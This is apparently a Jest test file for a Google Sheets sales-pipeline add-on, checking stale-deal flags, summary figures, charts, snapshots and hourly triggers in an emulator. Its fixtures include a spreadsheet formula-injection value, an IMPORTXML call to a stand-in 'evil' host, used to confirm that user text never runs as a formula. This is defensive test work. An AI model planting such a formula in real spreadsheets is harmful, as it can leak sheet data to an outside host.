/** Stale flags, the summary tab, snapshots and triggers, through the built bundle in the emulator. */
import { Emulator } from '../../emulator';
import { DEAL_HEADERS, dealColumn, dealRow } from '../../fixtures/deals';
import { summaryFigure as figure } from '../helpers/summary-tab';
import { loadedEmulator, readTab, writeTab } from '../helpers/workbook';

const HEALTH = dealColumn('Health');

function pipeline(emu: Emulator, rows: Record<string, unknown>[]): void {
  writeTab(emu, 'Deals', [DEAL_HEADERS, ...rows.map(dealRow)]);
  emu.call('menuSetUpPipeline');
}

describe('stale deals', () => {
  test("flags around the threshold in the spreadsheet's time zone, not the script's", () => {
    // 2026-11-23 03:00 UTC: still 22 Nov in New York, already 23 Nov in Tokyo.
    for (const [tz, expectStale] of [
      ['America/New_York', false],
      ['Asia/Tokyo', true],
    ] as const) {
      const emu = loadedEmulator({
        timeZone: tz,
        scriptTimeZone: 'America/Los_Angeles',
        now: Date.UTC(2026, 10, 23, 3),
      });
      // Proposal goes stale after 10 days; last touch typed as a date in the sheet's zone.
      pipeline(emu, [
        { Deal: 'Edge', Owner: 'A', Company: 'C', Stage: 'Proposal', Value: 1, 'Stage Entered': '2026-11-12' },
      ]);
      emu.call('menuFlagStaleDeals');
      const health = readTab(emu, 'Deals')[1]?.[HEALTH] as string;
      if (expectStale) expect(health).toMatch(/^Stale: 11 days in Proposal \(limit 10\)/);
      else expect(health).not.toMatch(/Stale/);
    }
  });

  test('clears the flag when the deal is touched, and highlights by one conditional-format rule', () => {
    const emu = loadedEmulator();
    pipeline(emu, [
      {
        Deal: 'Old',
        Owner: 'A',
        Company: 'C',
        Stage: 'Initial Contact',
        'Last Activity': '2026-10-01',
        'Next Step': 'Call',
      },
    ]);
    emu.call('menuFlagStaleDeals');
    expect(readTab(emu, 'Deals')[1]?.[HEALTH]).toMatch(/^Stale: 53 days in Initial Contact \(limit 7\)$/);
    emu.call('menuFlagStaleDeals');
    const rules = emu.book
      .getSheetByName('Deals')!
      .getConditionalFormatRules()
      .filter((r) => r.getBooleanCondition()?.getCriteriaType() === 'TEXT_STARTS_WITH');
    expect(rules).toHaveLength(1);
    emu.edit(emu.book.getSheetByName('Deals')!.getRange('K2'), [['2026-11-22']], '');
    expect(readTab(emu, 'Deals')[1]?.[HEALTH]).toBe('');
  });

  test('on 10,000 rows only the Health column changes; every other cell, format and note is untouched', () => {
    const emu = loadedEmulator();
    const rows = Array.from({ length: 10_000 }, (_, i) => ({
      'Deal ID': `X-${i}`,
      Deal: `Deal ${i}`,
      Owner: `Rep ${i % 7}`,
      Company: 'C',
      Stage: ['Lead Generation', 'Qualification', 'Proposal', 'Closed Won'][i % 4],
      Value: i * 10,
      'Last Activity': `2026-${1 + (i % 11)}-15`,
      'Next Step': i % 3 ? '=A1' : 'call',
    }));
    pipeline(emu, rows);
    const sheet = emu.book.getSheetByName('Deals')!;
    emu.counter.quiet(() => {
      sheet.getRange('P5').setBackground('#00ff00');
      sheet.getRange('B7').setNote('VIP');
    });
    const snap = () =>
      emu.counter.quiet(() => ({
        v: sheet
          .getDataRange()
          .getValues()
          .map((r) => r.filter((_, c) => c !== HEALTH)),
        f: sheet.getDataRange().getFormulas(),
        bg: [...sheet._data().backgrounds],
        n: [...sheet._data().notes],
        fm: [...sheet._data().formats],
      }));
    const before = JSON.stringify(snap());
    emu.counter.reset();
    emu.call('menuFlagStaleDeals');
    expect(JSON.stringify(snap())).toBe(before);
    expect(readTab(emu, 'Deals').filter((r) => String(r[HEALTH]).startsWith('Stale:')).length).toBeGreaterThan(1000);
    // One write for the Health column, one for the last-run line on the summary tab.
    expect(emu.counter.get('Range.setValues')).toBe(2);
  });
});

describe('the Pipeline Summary tab', () => {
  const rows = [
    {
      Deal: 'A',
      Owner: 'Ann',
      Company: 'C',
      Stage: 'Qualification',
      Value: 1000,
      Created: '2026-09-01',
      'Expected Close': '2026-12-10',
      'Stage Entered': '2026-11-20',
    },
    {
      Deal: 'B',
      Owner: 'Bob',
      Company: 'C',
      Stage: 'Proposal',
      Value: 2000,
      Probability: '80%',
      Created: '2026-08-01',
      'Expected Close': '2027-01-05',
      'Stage Entered': '2026-11-01',
    },
    {
      Deal: 'C',
      Owner: 'Ann',
      Company: 'C',
      Stage: 'Closed Won',
      Value: 3000,
      Created: '2026-07-01',
      'Stage Entered': '2026-08-15',
      'Expected Close': '2026-08-20',
    },
    {
      Deal: 'D',
      Owner: 'Bob',
      Company: 'C',
      Stage: 'Closed Lost',
      Value: 500,
      'Lost Reason': 'price',
      Created: '2026-06-01',
      'Stage Entered': '2026-07-01',
    },
    {
      Deal: '=IMPORTXML("http://evil","//a")',
      Owner: '+1 555',
      Company: '@x',
      Stage: 'Lead Generation',
      Value: 10,
      Created: '2026-01-01',
      'Last Activity': '2026-01-02',
    },
    { Deal: 'Broken', Owner: 'Zed', Company: 'C', Stage: 'Pitching', Value: 'tbd' },
  ];

  test('headline figures equal the custom functions on the same data', () => {
    const emu = loadedEmulator();
    pipeline(emu, rows);
    emu.call('menuRefreshSummary');
    const good = rows.slice(0, 5);
    const col = (k: string): unknown[][] => good.map((r) => [(r as Record<string, unknown>)[k] ?? '']);
    const d = (s: unknown): unknown => (s ? emu.dateCell(String(s)) : '');
    expect(figure(emu, 'Weighted forecast')).toBeCloseTo(
      emu.callCustomFunction('WEIGHTED_FORECAST', col('Value'), col('Stage'), undefined, col('Probability')) as number,
    );
    expect(figure(emu, 'Pipeline value')).toBe(emu.callCustomFunction('PIPELINE_VALUE', col('Value'), col('Stage')));
    expect(figure(emu, 'Win rate')).toBe(emu.callCustomFunction('WIN_RATE', col('Stage')));
    expect(figure(emu, 'Average deal size')).toBe(
      emu.callCustomFunction('AVERAGE_DEAL_SIZE', col('Value'), col('Stage')),
    );
    const created = good.map((r) => [d(r.Created)]);
    const closed = good.map((r) => [r.Stage === 'Closed Won' ? d(r['Stage Entered']) : '']);
    expect(figure(emu, 'Average sales cycle (days)')).toBe(
      emu.callCustomFunction('SALES_CYCLE_DAYS', created, closed, col('Stage')),
    );
    expect(figure(emu, 'Open deals')).toBe(3);
    // Setup, the jobs and every other locked action flushed before releasing the document lock.
    expect(emu.locks.state.releasesWithoutFlush).toBe(0);
    expect(emu.spreadsheetApp.flushes).toBeGreaterThan(0);
  });

  test('a bad row is reported under Data problems, not fatal', () => {
    const emu = loadedEmulator();
    pipeline(emu, rows);
    emu.call('menuRefreshSummary');
    const summary = readTab(emu, 'Pipeline Summary');
    const problems = summary.slice(summary.findIndex((r) => r[0] === 'Data problems') + 1);
    expect(problems).toEqual(
      expect.arrayContaining([
        ['Deals', 7, 'Stage', '"Pitching"', expect.stringMatching(/not a known stage/), '', ''],
        ['Deals', 7, 'Value', '"tbd"', 'not a number', '', ''],
      ]),
    );
    emu.call('menuFlagStaleDeals');
    expect(readTab(emu, 'Deals')[6]?.[HEALTH]).toMatch(/^Data problem: Stage "Pitching" is not a known stage/);
  });

  test('user text can never run as a formula', () => {
    const emu = loadedEmulator();
    pipeline(emu, rows);
    // Typed as users type text that starts with "=": the apostrophe keeps it text, so "=..." reaches the add-on.
    const evil = '=IMPORTXML("http://evil","//a")';
    emu.counter.quiet(() => {
      const deals = emu.book.getSheetByName('Deals')!;
      deals.getRange(6, DEAL_HEADERS.indexOf('Deal') + 1).setValue(`'${evil}`);
      deals.getRange(6, DEAL_HEADERS.indexOf('Owner') + 1).setValue("'=1+2");
    });
    emu.call('menuRefreshSummary');
    const sheet = emu.book.getSheetByName('Pipeline Summary')!;
    const formulas = emu.counter
      .quiet(() => sheet.getDataRange().getFormulas())
      .flat()
      .filter((f) => f !== '');
    expect(formulas).toEqual([]);
    const values = readTab(emu, 'Pipeline Summary').flat();
    expect(values).toEqual(expect.arrayContaining([evil, '=1+2']));
    const history = emu.counter
      .quiet(() => emu.book.getSheetByName('Stage History')!.getDataRange().getFormulas())
      .flat()
      .filter((f) => f !== '');
    expect(history).toEqual([]);
  });

  test('charts are updated in place (three after three runs), snapshots appended once a day, output identical on identical data', () => {
    const emu = loadedEmulator();
    pipeline(emu, rows);
    emu.call('menuRefreshSummary');
    const first = JSON.stringify(readTab(emu, 'Pipeline Summary').slice(2));
    emu.call('menuRefreshSummary');
    emu.call('menuRefreshSummary');
    const sheet = emu.book.getSheetByName('Pipeline Summary')!;
    expect(
      sheet
        .getCharts()
        .map((c) => c.getOptions().get('title'))
        .sort(),
    ).toEqual(['Forecast by month', 'Pipeline funnel (deals reached)', 'Pipeline trend', 'What changed (waterfall)']);
    expect(JSON.stringify(readTab(emu, 'Pipeline Summary').slice(2))).toBe(first);
    expect(readTab(emu, 'Pipeline Snapshots')).toHaveLength(1 + 7);
    emu.clock.advance(86_400_000);
    emu.call('menuRefreshSummary');
    expect(readTab(emu, 'Pipeline Snapshots')).toHaveLength(1 + 14);
    const funnel = sheet.getCharts().find((c) => c.getOptions().get('title') === 'Pipeline funnel (deals reached)')!;
    expect(funnel.getRanges().map((r) => r.getA1Notation())).toEqual(['A13:A19', 'F13:F19']);
  });

  test('a failing job leaves its error on the summary tab', () => {
    const emu = loadedEmulator();
    pipeline(emu, rows);
    emu.call('menuRefreshSummary');
    emu.counter.quiet(() => emu.book.getSheetByName('Pipeline Settings')!.getRange('B3').setValue('often'));
    emu.call('menuRefreshSummary');
    const status = readTab(emu, 'Pipeline Summary')[1] as string[];
    expect(status[4]).toBe('Failed');
    expect(status[5]).toMatch(/'Pipeline Settings'!B3/);
    expect(emu.ui.alerts.at(-1)?.prompt).toMatch(/It did not work/);
  });
});

describe('triggers', () => {
  test('turning automation on twice installs one hourly trigger; off removes it', () => {
    const emu = loadedEmulator();
    pipeline(emu, []);
    emu.call('menuTurnOnAutomation');
    emu.call('menuTurnOnAutomation');
    // One hourly tick, and the on-edit trigger that records who typed a stage change (docs/RULES-WRITES.md).
    expect(emu.triggers.triggers.map((t) => [t.eventType, t.handler])).toEqual([
      ['ON_EDIT', 'onDealEdit'],
      ['CLOCK', 'onAutomationTick'],
    ]);
    expect(emu.triggers.triggers.find((t) => t.eventType === 'CLOCK')?.everyMs).toBe(3_600_000);
    expect(emu.ui.alerts.at(-1)?.prompt).toMatch(/already on/);
    emu.call('menuTurnOffAutomation');
    expect(emu.triggers.triggers).toHaveLength(0);
  });

  test('the hourly tick runs the daily job once a day at or after the chosen hour', () => {
    const emu = loadedEmulator({ now: Date.UTC(2026, 10, 23, 5) }); // 00:00 in New York
    pipeline(emu, [
      { Deal: 'A', Owner: 'A', Company: 'C', Stage: 'Proposal', Value: 1, 'Stage Entered': '2026-10-01' },
    ]);
    emu.call('menuTurnOnAutomation');
    const jobsRun = (): number => emu.triggers.triggers.length && readTab(emu, 'Pipeline Snapshots').length;
    for (let h = 1; h <= 5; h++) {
      emu.clock.advance(3_600_000);
      emu.runDueTriggers();
    }
    expect(emu.book.getSheetByName('Pipeline Snapshots')).toBeNull(); // before 06:00 nothing ran
    for (let h = 6; h <= 29; h++) {
      emu.clock.advance(3_600_000);
      emu.runDueTriggers();
    }
    expect(jobsRun()).toBe(1 + 7); // once on day one, though the trigger ticked every hour
    emu.clock.advance(3_600_000);
    emu.runDueTriggers(); // 06:00 on day two
    expect(readTab(emu, 'Pipeline Snapshots')).toHaveLength(1 + 7 * 2);
    expect(readTab(emu, 'Deals')[1]?.[HEALTH]).toMatch(/^Stale/);
    expect((readTab(emu, 'Pipeline Summary')[1] as string[]).slice(1, 2)).toEqual(['Daily job']);
  });
});
